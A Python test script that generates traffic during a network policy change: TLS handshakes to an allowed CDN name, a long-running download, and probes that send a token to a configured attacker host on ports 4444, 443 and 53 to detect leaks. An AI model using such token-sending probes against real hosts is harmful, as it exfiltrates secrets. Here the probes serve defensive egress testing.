"""Traffic while the policy changes: handshakes with an allowed name, attempts on the attacker, one download that goes on.

It runs until its input is closed, and then says what has happened.
"""

from __future__ import annotations

import json
import sys
import threading
import time
from typing import Any

import tools


def main(config: dict[str, Any]) -> None:
    tools.WORLD.update(config)
    over = threading.Event()
    counts: dict[str, Any] = {"handshakes": 0, "failed": [], "probes": 0, "leaks": [], "download": 0, "broken": ""}
    name = config.get("name") or config["api"]

    def handshakes() -> None:
        while not over.is_set():
            try:
                data = tools.tls(config["cdn"][0], name, verify=True)
                ok = tools.sites(data) == [name]
            except OSError as error:
                ok, data = False, repr(error).encode()
            counts["handshakes"] += 1
            if not ok:
                counts["failed"].append([round(time.time(), 2), tools.shown(data)])
            time.sleep(0.01)

    def probes() -> None:
        while not over.is_set():
            for port in (4444, 443, 53):
                counts["probes"] += 1
                try:
                    data = tools.tcp(config["attacker"][0], port, f"{config['token']}\n".encode(), 0.7)
                except OSError:
                    continue
                if tools.MARK in data:
                    counts["leaks"].append([round(time.time(), 2), port])
            time.sleep(0.01)

    def download() -> None:
        try:
            with tools.connect(config["cdn"][0], 80, 10) as there:
                there.sendall(f"GET /slow?seconds=600 HTTP/1.1\r\nHost: {name}\r\n\r\n".encode())
                there.settimeout(3)
                data = b""
                while not over.is_set():
                    piece = there.recv(65536)
                    if not piece:
                        raise OSError("closed")
                    data += piece
                    counts["download"] = data.count(b"INTERNET-SITE")
        except OSError as error:
            if not over.is_set():
                counts["broken"] = f"{error!r} after {counts['download']} lines"

    wanted = config.get("parts", ["handshakes", "probes", "download"])
    parts = {"handshakes": handshakes, "probes": probes, "download": download}
    threads = [threading.Thread(target=parts[part], daemon=True) for part in wanted]
    for thread in threads:
        thread.start()
    print("started", flush=True)
    sys.stdin.read()
    over.set()
    for thread in threads:
        thread.join(6)
    print(json.dumps(counts), flush=True)
